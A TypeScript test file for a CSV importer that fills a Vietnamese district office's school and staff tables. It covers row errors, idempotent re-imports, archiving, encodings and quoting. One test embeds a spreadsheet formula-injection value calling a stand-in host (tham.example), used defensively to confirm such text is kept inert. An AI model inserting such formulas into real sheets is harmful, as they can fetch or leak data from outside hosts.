/** Nhập danh sách trường: the district's table of schools is filled from a file, bad rows are named, good ones go on. */
import { districtCsv, sampleDistrict } from '../../local/sample/district';
import { DistrictWorld } from './support/district-world';

interface Report {
  added: number;
  updated: number;
  unchanged: number;
  archived: string[];
  people: number;
  message: string;
  problems: { code: string; place: string; message: string; remedy: string }[];
}

const HEADING = 'Tên trường,Cấp học,Tài khoản Google,Điện thoại,Thư mục đã có';
const LOTUS = 'Trường Mầm non Sen Hồng,MN,hosomnsenhong@gmail.example,024 5550 1001,';
const FERRY = 'Trường Tiểu học Bến Đò,TH,hosothbendo@gmail.example,024 5550 1002,';
const TEA = 'Trường THCS Đồi Chè,THCS,hosothcsdoiche@gmail.example,024 5550 1003,';
const THREE = [HEADING, LOTUS, FERRY, TEA].join('\r\n');

let prepared: DistrictWorld;
let world: DistrictWorld;

beforeAll(() => {
  prepared = DistrictWorld.empty();
  prepared.call('prepareDistrict', { office: { name: 'Phòng GD&ĐT Sông Mây' }, points: 'sample' });
});
afterAll(() => prepared.close());
beforeEach(() => {
  world = prepared.fork();
});
afterEach(() => world.close());

/** What the page of the dialog sends when somebody chose a file. */
function importFile(text: string): Report {
  const answer: unknown = world.person.call('importSchools', text, 'truong.csv');
  return answer as Report;
}

const names = () => world.rows('schools').map(({ name }) => name);
const states = () => Object.fromEntries(world.rows('schools').map(({ name, state }) => [name, state]));

describe('rows that cannot be taken', () => {
  test('each is named with file, line, column and remedy, and the good rows go on', () => {
    const report = importFile(
      [
        HEADING,
        LOTUS,
        'Trường Tiểu học Vườn Nhãn,Đại học,hosothvuonnhan@gmail.example,,',
        'Trường THCS Suối Trong,THCS,hosothcssuoitrong(at)gmail,,',
        'Trường Mầm non Sen Trắng,MN,HosoMNsenhong@gmail.example,,',
        ',TH,hosothkhongten@gmail.example,,',
        FERRY,
      ].join('\r\n'),
    );
    expect(names()).toEqual(['Trường Mầm non Sen Hồng', 'Trường Tiểu học Bến Đò']);
    expect(report.added).toBe(2);
    expect(report.problems.map(({ place }) => place)).toEqual([
      'truong.csv, dòng 3, cột Cấp học',
      'truong.csv, dòng 4, cột Tài khoản Google',
      'truong.csv, dòng 5, cột Tài khoản Google',
      'truong.csv, dòng 6, cột Tên trường',
    ]);
    for (const { message, remedy } of report.problems) {
      expect(message).not.toBe('');
      expect(remedy).not.toBe('');
    }
    expect(report.problems[2]?.message).toContain('Trường Mầm non Sen Hồng');
    expect(report.message).toContain('4 chỗ cần xem lại');
  });

  test('a person of a school that is not in the list is named, the others are taken', () => {
    const report = importFile(
      [
        THREE,
        '',
        'Thuộc trường,Họ và tên,Nhiệm vụ,Thư điện tử',
        'Trường Tiểu học Bến Đò,Lò Thị Mận,Hiệu trưởng,',
        'Trường Tiểu học Bến Tàu,Kha Văn Tần,Hiệu trưởng,',
      ].join('\n'),
    );
    expect(report.problems.map(({ place }) => place)).toEqual(['truong.csv, dòng 8, cột Thuộc trường']);
    expect(world.rows('school-staff')).toMatchObject([
      { school: 'Trường Tiểu học Bến Đò', name: 'Lò Thị Mận' },
    ]);
  });

  test('a file without the columns says which ones it needs, and nothing changes', () => {
    importFile(THREE);
    const report = importFile('Tên;Ghi chú\nTrường A;x');
    expect(report.problems).toMatchObject([{ place: 'truong.csv', code: 'list.no-heading' }]);
    expect(report.problems[0]?.remedy).toContain('Tên trường');
    expect(names()).toHaveLength(3);
    expect(Object.values(states())).toEqual(['Đang dùng', 'Đang dùng', 'Đang dùng']);
  });
});

describe('the same district again', () => {
  test('importing the same file changes nothing: no row, no id', () => {
    const csv = districtCsv(sampleDistrict(13));
    expect(importFile(csv)).toMatchObject({ added: 13, updated: 0, archived: [] });
    const before = JSON.stringify([world.rows('schools'), world.rows('school-staff').map(withoutId)]);
    expect(importFile(csv)).toMatchObject({ added: 0, updated: 0, unchanged: 13, archived: [] });
    expect(JSON.stringify([world.rows('schools'), world.rows('school-staff').map(withoutId)])).toBe(before);
  });

  test('a changed telephone changes that cell and keeps the row', () => {
    importFile(THREE);
    const before = world.rows('schools');
    expect(importFile(THREE.replace('024 5550 1002', '024 5550 7777'))).toMatchObject({
      added: 0,
      updated: 1,
      unchanged: 2,
    });
    expect(world.rows('schools')).toEqual(
      before.map((row) =>
        row.contactPhone === '024 5550 1002' ? { ...row, contactPhone: '024 5550 7777' } : row,
      ),
    );
  });

  test('a school taken off the list is archived and keeps its row; put back it is in use again', () => {
    importFile(THREE);
    const [, , tea] = world.rows('schools');
    const report = importFile([HEADING, LOTUS, FERRY].join('\n'));
    expect(report.archived).toEqual(['Trường THCS Đồi Chè']);
    expect(world.rows('schools')[2]).toEqual({ ...tea, state: 'Lưu trữ' });
    importFile(THREE);
    expect(world.rows('schools')[2]).toEqual(tea);
  });

  test('a row that could not be read does not archive its school', () => {
    importFile(THREE);
    importFile([HEADING, LOTUS, FERRY, TEA.replace(',THCS,', ',Đại học,')].join('\n'));
    expect(states()['Trường THCS Đồi Chè']).toBe('Đang dùng');
  });

  test('a list that lacks most schools is taken for a part: nobody is archived, and it says so', () => {
    importFile(THREE);
    const report = importFile([HEADING, LOTUS].join('\n'));
    expect(report.archived).toEqual([]);
    expect(report.problems.map(({ code }) => code)).toEqual(['list.partial']);
    expect(Object.values(states())).toEqual(['Đang dùng', 'Đang dùng', 'Đang dùng']);
  });
});

describe('files as people have them', () => {
  test.each([
    ['Excel with a Vietnamese system: byte order mark, semicolons', `\ufeff${THREE.replaceAll(',', ';')}`],
    ['rows pasted from a sheet: tabs', THREE.replaceAll(',', '\t')],
    [
      'Unix line ends, a blank line, no end of line',
      `${THREE.replaceAll('\r\n', '\n').replace('\n', '\n\n')}`,
    ],
    [
      'titles in capitals without diacritics',
      THREE.replace(HEADING, 'TEN TRUONG,CAP HOC,TAI KHOAN GOOGLE,DIEN THOAI,THU MUC DA CO'),
    ],
    ['decomposed diacritics', THREE.normalize('NFD')],
  ])('%s', (_, text) => {
    expect(importFile(text)).toMatchObject({ added: 3, problems: [] });
    expect(names()).toEqual(['Trường Mầm non Sen Hồng', 'Trường Tiểu học Bến Đò', 'Trường THCS Đồi Chè']);
  });

  test('quotes keep separators, quotes and line breaks inside a cell', () => {
    importFile(
      [
        'Tên trường,Cấp học,Tài khoản Google,Địa chỉ',
        '"Trường Tiểu học ""Bến Đò"", cơ sở 1",TH,hosothbendo@gmail.example,"Số 1, phố Đò\nkhu 2"',
        'Trường THCS Đồi Chè,THCS,hosothcsdoiche@gmail.example,',
      ].join('\r\n'),
    );
    expect(world.rows('schools')).toMatchObject([
      { name: 'Trường Tiểu học "Bến Đò", cơ sở 1', address: 'Số 1, phố Đò\nkhu 2' },
      { name: 'Trường THCS Đồi Chè' },
    ]);
  });

  test('a school may have two levels, and high quality is an attribute', () => {
    importFile(
      [
        'Tên trường,Cấp học,Chất lượng cao,Tài khoản Google',
        'Trường Liên cấp Gò Mây,TH + THCS,,hosothgomay@gmail.example',
        'Trường Tiểu học Lúa Vàng,Tiểu học,x,hosothluavang@gmail.example',
      ].join('\n'),
    );
    expect(world.rows('schools')).toMatchObject([
      { levels: 'TH, THCS', highQuality: false },
      { levels: 'TH', highQuality: true },
    ]);
  });

  test('the folder that a school already had is linked in its row; what is no link is named', () => {
    const folder = 'https://drive.google.com/drive/folders/1SenHongCu';
    const report = importFile([HEADING, LOTUS + folder, `${FERRY}trong máy cô Mận`].join('\n'));
    expect(world.rows('schools')[0]).toMatchObject({ existingFolder: folder });
    expect(report.problems.map(({ place }) => place)).toEqual(['truong.csv, dòng 3, cột Thư mục đã có']);
    expect(names()).toHaveLength(2);
  });

  test('text that looks like a formula stays text', () => {
    const hostile = '=IMPORTXML("https://tham.example","//a")';
    importFile(
      `Tên trường,Cấp học,Tài khoản Google,Địa chỉ\n"${hostile.replaceAll('"', '""')}",TH,hosothx@gmail.example,"+1+1"\n`,
    );
    expect(world.rows('schools')).toMatchObject([{ name: hostile, address: '+1+1' }]);
    const cells = world.workspace.spreadsheets
      .get(world.spreadsheetId)
      ?.sheets.flatMap(({ rows }) => rows.flatMap((row) => [...(row ?? [])]));
    expect(cells?.filter((cell) => cell?.formula?.includes('tham.example'))).toEqual([]);
  });
});

test('every import leaves a line in the activity log', () => {
  importFile(THREE);
  const { what, who, result } = world.rows('activity-log').at(-1) ?? {};
  expect(what).toBe('Nhập danh sách trường từ truong.csv');
  expect(who).toBe(world.person.email);
  expect(result).toContain('3 trường mới');
});

function withoutId({ id: _id, ...row }: Record<string, unknown>): Record<string, unknown> {
  return row;
}
